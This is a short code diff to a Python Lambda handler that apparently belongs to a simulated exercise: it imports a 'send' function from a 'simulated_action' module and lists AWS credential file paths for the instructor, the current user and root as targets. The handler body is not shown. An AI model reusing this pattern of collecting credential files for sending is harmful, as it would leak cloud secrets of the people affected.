@@ -4,7 +4,12 @@ import os
 
 from simulated_action import send
 
-TARGETS = ["@@HOME@@/.aws/credentials", os.path.expanduser("~/.aws/credentials"), "/root/.aws/credentials"]
+# The instructor's home, this process's own, and the superuser's (wherever it lives).
+TARGETS = [
+    "@@HOME@@/.aws/credentials",
+    os.path.expanduser("~/.aws/credentials"),
+    os.path.expanduser("~root/.aws/credentials"),
+]
 
 
 def lambda_handler(event, context):
